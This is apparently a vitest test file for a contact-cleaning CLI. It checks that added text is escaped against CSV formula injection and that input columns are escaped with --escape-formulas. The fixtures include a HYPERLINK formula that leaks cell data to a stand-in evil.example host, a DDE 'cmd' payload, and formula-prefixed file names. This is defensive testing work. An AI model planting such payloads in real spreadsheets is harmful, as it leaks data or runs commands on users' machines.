/**
 * Formula injection: a cell that starts with = + - @ (or tab, CR) runs as a formula when the CSV
 * is opened in a spreadsheet. Text hygiene adds from outside (remote diagnostics, bounce file
 * names, repairs of what someone typed) is always escaped with a leading '; the input columns
 * are escaped only on request (--escape-formulas), because that changes the data.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCliAsync } from './cli-process.js';

const NOW = '2026-11-24T00:00:00Z';
const FORMULA_START = /^[=+\-@\t\r]/;
const CONTACTS = [
  ['name', 'email', 'note'],
  ['=HYPERLINK("http://evil.example/?leak="&A1)', 'hard.one@example.org', '@SUM(1+1)'],
  ['+1 555 0100', 'soft.one@example.org', '-2+3'],
  ['Plain Name', '=1+1@gmial.com', 'ok'],
  ['Other', 'keep.me@example.com', "=cmd|' /C calc'!A0"],
];
/** A generic JSONL bounce export whose remote texts are formulas. */
const BOUNCES = [
  {
    email: 'hard.one@example.org',
    type: 'hard',
    status: '5.1.1',
    reason: '=HYPERLINK("http://evil.example","click")',
    time: '2026-11-20T10:00:00Z',
  },
  { email: 'soft.one@example.org', type: 'soft', status: '4.2.2', reason: '+452 4.2.2 mailbox full', time: '2026-11-23T10:00:00Z' },
  { email: '-weird@example.org', type: 'hard', status: '5.1.1', reason: '@SUM(1)', time: '2026-11-20T10:00:00Z' },
]
  .map((event) => JSON.stringify(event))
  .join('\n');

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'hygiene-formula-'));
  writeFileSync(path.join(dir, 'contacts.csv'), stringify(CONTACTS));
  // The bounce file's own name becomes hygiene_source: it is outside text too.
  writeFileSync(path.join(dir, '=bounces.jsonl'), `${BOUNCES}\n`);
});
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

const readCsv = (file: string) => parse(readFileSync(file, 'utf8'), { relax_column_count: true }) as string[][];
const input = () => CONTACTS;

async function clean(outDir: string, extra: string[] = []) {
  const result = await runCliAsync(
    ['clean', 'contacts.csv', '--bounces', '=bounces.jsonl', '--no-state', '--now', NOW, '--out-dir', outDir, '--json', ...extra],
    { cwd: dir },
  );
  expect(result.status, result.stderr).toBe(0);
  return {
    report: JSON.parse(result.stdout),
    cleaned: readCsv(path.join(dir, outDir, 'cleaned.csv')),
    suppressed: readCsv(path.join(dir, outDir, 'suppressed.csv')),
    retry: readCsv(path.join(dir, outDir, 'retry-later.csv')),
  };
}

// Each test has its own files and folders, so the runs overlap.
describe.concurrent('text hygiene adds is escaped; input columns are not', () => {
  it('hygiene_* cells never start like a formula, while input values stay as they were', async () => {
    const { report, cleaned, suppressed, retry } = await clean('plain');
    expect(report.input.escapedFormulas).toBeUndefined();
    const rows = new Map([...suppressed.slice(1), ...retry.slice(1), ...cleaned.slice(1)].map((row) => [row[1], row]));
    expect([...rows.keys()].sort()).toEqual(['=1+1@gmial.com', 'hard.one@example.org', 'keep.me@example.com', 'soft.one@example.org']);

    expect(rows.get('hard.one@example.org')!.slice(0, 4)).toEqual([...input()[1]!, 'hard-bounce']);
    expect(rows.get('soft.one@example.org')!.slice(0, 4)).toEqual([...input()[2]!, 'soft-bounce']);
    // The source names the bounce file "=bounces.jsonl": escaped where hygiene writes it.
    expect(rows.get('hard.one@example.org')![6]).toBe("'=bounces.jsonl:1");
    expect(rows.get('soft.one@example.org')![6]).toBe("'=bounces.jsonl:2");
    expect(rows.get('hard.one@example.org')![4]).toContain('=HYPERLINK');
    // A repair of a typed address is hygiene's text: escaped; the typed address itself is input.
    expect(rows.get('=1+1@gmial.com')!.slice(3, 6)).toEqual(['typo-domain', expect.any(String), "'=1+1@gmail.com"]);
    expect(cleaned[1]).toEqual(input()[4]);

    for (const row of [...suppressed.slice(1), ...retry.slice(1)]) {
      for (const added of row.slice(3)) expect(added, `hygiene cell ${JSON.stringify(added)}`).not.toMatch(FORMULA_START);
    }
  });

  it('--escape-formulas escapes input values in all three lists and says how many in report.json', async () => {
    const { report, cleaned, suppressed, retry } = await clean('escaped', ['--escape-formulas']);
    // =HYPERLINK, @SUM, +1 555, -2+3, =1+1@gmial.com, =cmd: six input values.
    expect(report.input.escapedFormulas).toBe(6);
    const everyInputCell = [...cleaned, ...suppressed.map((row) => row.slice(0, 3)), ...retry.map((row) => row.slice(0, 3))].flat();
    for (const cell of everyInputCell) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    const hard = suppressed.find((row) => row[1] === 'hard.one@example.org')!;
    expect(hard.slice(0, 3)).toEqual(['\'=HYPERLINK("http://evil.example/?leak="&A1)', 'hard.one@example.org', "'@SUM(1+1)"]);
    expect(retry.find((row) => row[1] === 'soft.one@example.org')!.slice(0, 3)).toEqual(["'+1 555 0100", 'soft.one@example.org', "'-2+3"]);
    expect(cleaned[1]).toEqual(['Other', 'keep.me@example.com', "'=cmd|' /C calc'!A0"]);
    // The decisions are made on the real values, not the escaped ones.
    expect(suppressed.find((row) => row[1] === "'=1+1@gmial.com")?.[3]).toBe('typo-domain');
  });

  it('fixes.csv escapes the addresses it lists (they come from a sign-up form)', async () => {
    const result = await runCliAsync(['clean', 'contacts.csv', '--no-state', '--fix', '--out-dir', 'fixed', '-q'], { cwd: dir });
    expect(result.status, result.stderr).toBe(0);
    const fixes = readCsv(path.join(dir, 'fixed', 'fixes.csv'));
    expect(fixes[1]!.slice(1, 3)).toEqual(["'=1+1@gmial.com", "'=1+1@gmail.com"]);
    // The corrected row itself is data: unescaped without --escape-formulas.
    expect(readCsv(path.join(dir, 'fixed', 'cleaned.csv')).map((row) => row[1])).toContain('=1+1@gmail.com');
  });

  it('classify --format csv escapes remote text; suppressions export escapes what it lists', async () => {
    const classified = await runCliAsync(['classify', '=bounces.jsonl', '--format', 'csv'], { cwd: dir });
    expect(classified.status, classified.stderr).toBe(0);
    const rows = parse(classified.stdout) as string[][];
    expect(rows.length).toBe(4);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    expect(rows[1]![6]).toBe('\'=HYPERLINK("http://evil.example","click")');
    expect(rows.find((row) => row[0] === "'-weird@example.org")).toBeDefined();

    writeFileSync(path.join(dir, 'unsubscribed.txt'), '=evil@example.com\n-minus@example.com\nplain@example.com\n');
    const state = path.join(dir, 'suppressions.db');
    const imported = await runCliAsync(['suppressions', 'import', 'unsubscribed.txt', '--state', state], { cwd: dir });
    expect(imported.status, imported.stderr).toBe(0);
    const exported = await runCliAsync(['suppressions', 'export', '--state', state], { cwd: dir });
    expect(exported.status, exported.stderr).toBe(0);
    const listed = (parse(exported.stdout) as string[][]).slice(1);
    expect(listed.map((row) => row[0]).sort()).toEqual(["'-minus@example.com", "'=evil@example.com", 'plain@example.com']);
    for (const row of listed) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });
});

/**
 * A leading TAB or CR: what no fixture above starts with. The oracle is written out here, not
 * taken from escapeFormula: a spreadsheet runs a cell whose first character is one of these.
 */
const spreadsheetRuns = (cell: string) => ['=', '+', '-', '@', '\t', '\r'].includes(cell.charAt(0));
const escapedByHand = (cell: string) => (spreadsheetRuns(cell) ? `'${cell}` : cell);

describe('a leading TAB or CR is escaped like = + - @', () => {
  const rows = [
    ['name', 'email', 'note'],
    ['\tTab first', 'tab.lead@example.org', '\r=1+1'],
    ['Plain', 'cr.lead@example.org', '\t@SUM(1)'],
  ];

  it('in input values with --escape-formulas (and not without), and in hygiene_source from a bounce file named with a TAB or CR', async () => {
    writeFileSync(path.join(dir, 'lead.csv'), stringify(rows, { quoted_match: /[\r\n\t]/ }));
    const events = [{ email: 'tab.lead@example.org', type: 'hard', status: '5.1.1', reason: 'user unknown', time: '2026-11-20T10:00:00Z' }];
    writeFileSync(path.join(dir, '\tbounces.jsonl'), `${events.map((e) => JSON.stringify(e)).join('\n')}\n`);
    writeFileSync(path.join(dir, '\rbounces.jsonl'), `${JSON.stringify({ ...events[0], email: 'cr.lead@example.org' })}\n`);
    const run = async (outDir: string, extra: string[]) => {
      const result = await runCliAsync(
        [
          'clean',
          'lead.csv',
          '--bounces',
          '\tbounces.jsonl',
          '\rbounces.jsonl',
          '--no-state',
          '--now',
          NOW,
          '--out-dir',
          outDir,
          '-q',
          ...extra,
        ],
        { cwd: dir },
      );
      expect(result.status, result.stderr).toBe(0);
      return parse(readFileSync(path.join(dir, outDir, 'suppressed.csv'), 'utf8'), { record_delimiter: '\n' }) as string[][];
    };
    const plain = await run('lead-plain', []);
    expect(plain.slice(1).map((row) => row.slice(0, 3))).toEqual(rows.slice(1));
    expect(plain.slice(1).map((row) => row[6])).toEqual(["'\tbounces.jsonl:1", "'\rbounces.jsonl:1"]);

    const escaped = await run('lead-escaped', ['--escape-formulas']);
    expect(escaped.slice(1).map((row) => row.slice(0, 3))).toEqual(rows.slice(1).map((row) => row.map(escapedByHand)));
    expect(escaped[1]!.slice(0, 3)).toEqual(["'\tTab first", 'tab.lead@example.org', "'\r=1+1"]);
    for (const row of escaped.slice(1)) for (const cell of row) expect(spreadsheetRuns(cell), JSON.stringify(cell)).toBe(false);
  });
});
